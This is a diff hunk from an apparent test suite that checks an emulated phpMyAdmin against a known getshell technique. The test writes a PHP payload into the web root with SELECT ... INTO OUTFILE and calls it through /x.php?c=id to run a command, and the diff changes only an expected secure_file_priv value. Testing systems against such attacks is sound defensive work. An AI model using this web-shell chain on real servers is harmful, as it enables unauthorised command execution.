@@ -76,7 +76,7 @@ async def test_metasploit_s_phpmyadmin_login_finds_the_poor_password(admin: Mach
 async def test_a_shell_is_written_by_into_outfile_and_runs(admin: Machine) -> None:
     """The second stage of phpMyAdmin getshell tools: datadir, then SELECT ... INTO OUTFILE into the document root, then ask for it."""
     token = await _entered(admin)
-    assert _cells(await _sql(admin, token, "SELECT @@datadir, @@secure_file_priv")) == ["/var/lib/mysql/", ""]
+    assert _cells(await _sql(admin, token, "SELECT @@datadir, @@secure_file_priv")) == ["/var/lib/mysql/", "NULL"]
     written = await _sql(admin, token, f"SELECT '{PAYLOAD}' INTO OUTFILE '/var/www/html/x.php'")
     assert b"1 row affected." in written.body
     shell = await admin.ask("GET", "/x.php?c=id")
